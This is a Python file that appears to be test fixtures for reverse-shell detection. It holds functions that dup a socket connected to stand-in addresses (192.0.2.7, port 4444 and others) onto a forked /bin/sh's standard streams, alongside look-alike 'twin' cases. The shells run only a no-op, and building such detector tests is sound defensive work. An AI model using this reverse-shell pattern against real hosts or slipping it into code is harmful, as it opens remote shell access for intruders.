"""Shells with a connection, and with what only looks like one, as a standard
stream. Each ends by itself."""
import os
import socket


def started(at, what="/bin/sh", args=("sh", "-c", ":"), keep=True):
    """Starts a program with the descriptor in the place of stream `at`."""
    streams, other = at
    pid = os.fork()
    if pid == 0:
        for n in streams:
            os.dup2(other, n, inheritable=keep)
        try:
            os.execv(what, list(args))
        finally:
            os._exit(9)
    return "ended %d" % os.waitpid(pid, 0)[1]


def dialled(family, address, kind=socket.SOCK_STREAM):
    s = socket.socket(family, kind)
    s.settimeout(10)
    s.connect(address)
    return s


@tool
def reverse_shell():
    with dialled(socket.AF_INET, ("192.0.2.7", 4444)) as s:
        return started(((0, 1, 2), s.fileno()))


@tool
def output_only():
    with dialled(socket.AF_INET, ("192.0.2.7", 4445)) as s:
        return started(((1,), s.fileno()))


@tool
def errors_only():
    with dialled(socket.AF_INET, ("192.0.2.7", 4446)) as s:
        return started(((2,), s.fileno()))


@tool
def six():
    with dialled(socket.AF_INET6, ("2001:db8::7", 4444)) as s:
        return started(((0,), s.fileno()))


@tool
def mapped():
    with dialled(socket.AF_INET6, ("::ffff:192.0.2.7", 4447)) as s:
        return started(((0,), s.fileno()))


@tool
def datagrams():
    with dialled(socket.AF_INET, ("192.0.2.7", 4448), socket.SOCK_DGRAM) as s:
        return started(((0, 1), s.fileno()))


@tool
def script_of_its_own():
    with open("/tmp/s.sh", "w") as f:
        f.write("#!/bin/sh\n:\n")
    os.chmod("/tmp/s.sh", 0o755)
    with dialled(socket.AF_INET, ("192.0.2.7", 4449)) as s:
        return started(((0, 1), s.fileno()), "/tmp/s.sh", ("s.sh",))


@tool
def pipe_twin():
    r, w = os.pipe()
    try:
        return started(((0, 1, 2), w))
    finally:
        os.close(r)
        os.close(w)


@tool
def pair_twin():
    a, b = socket.socketpair()
    with a, b:
        return started(((0, 1, 2), a.fileno()))


@tool
def loopback_twin():
    with socket.create_server(("127.0.0.1", 0)) as server:
        with dialled(socket.AF_INET, server.getsockname()) as s:
            return started(((0, 1, 2), s.fileno()))


@tool
def unconnected_twin():
    with socket.socket() as s:
        return started(((1,), s.fileno()))


@tool
def held_twin():
    """The connection is open, but no standard stream of the program."""
    with dialled(socket.AF_INET, ("192.0.2.7", 4450)) as s:
        os.set_inheritable(s.fileno(), True)
        return started(((), -1))


@tool
def closed_twin():
    """The stream is a connection until the very moment of the start."""
    with dialled(socket.AF_INET, ("192.0.2.7", 4451)) as s:
        return started(((0,), s.fileno()), keep=False)
